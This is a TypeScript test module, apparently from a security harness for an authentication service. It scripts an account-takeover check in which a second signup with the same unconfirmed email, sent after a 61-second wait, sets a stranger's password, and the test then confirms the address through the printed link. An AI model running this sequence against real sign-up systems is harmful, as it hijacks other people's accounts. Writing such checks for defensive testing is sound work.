import type { Attack } from './attack.ts';
import { askAuth, followPrintedLink, makeAddress } from './requests/account.ts';

const own = 'the password of the owner';
const foreign = 'the password of the stranger';

export const attack: Attack = {
  summary: 'sign up with an address that waits for its owner, who follows the newest mail',
  run: async (target) => {
    const email = makeAddress();
    const first = await askAuth(target, '/signup', { email, password: own });
    target.report(`the owner signs up: ${first.status}`);
    if ('access_token' in first.body) {
      target.report('Addresses count as confirmed at once here: none waits for its owner.');
      return 'held';
    }
    const data = { name: 'Stranger' };
    // One mail of a kind per address and minute.
    const pauseSeconds = 61;
    target.report(`the stranger waits ${pauseSeconds} seconds, until the next mail may go out`);
    await new Promise((resolve) => setTimeout(resolve, pauseSeconds * 1000));
    const second = await askAuth(target, '/signup', { email, password: foreign, data });
    target.report(`the stranger signs up with the same address: ${second.status}`);
    await followPrintedLink(target, email);
    const signIn = await askAuth(target, '/token?grant_type=password', {
      email,
      password: foreign,
    });
    const { error_code: said } = signIn.body;
    const code = typeof said === 'string' ? said : 'a session';
    target.report(`the stranger's password is answered with ${signIn.status}, ${code}`);
    if (code === 'email_not_confirmed') throw new Error('The link did not confirm the address.');
    return signIn.status === 200 ? 'broken' : 'held';
  },
};
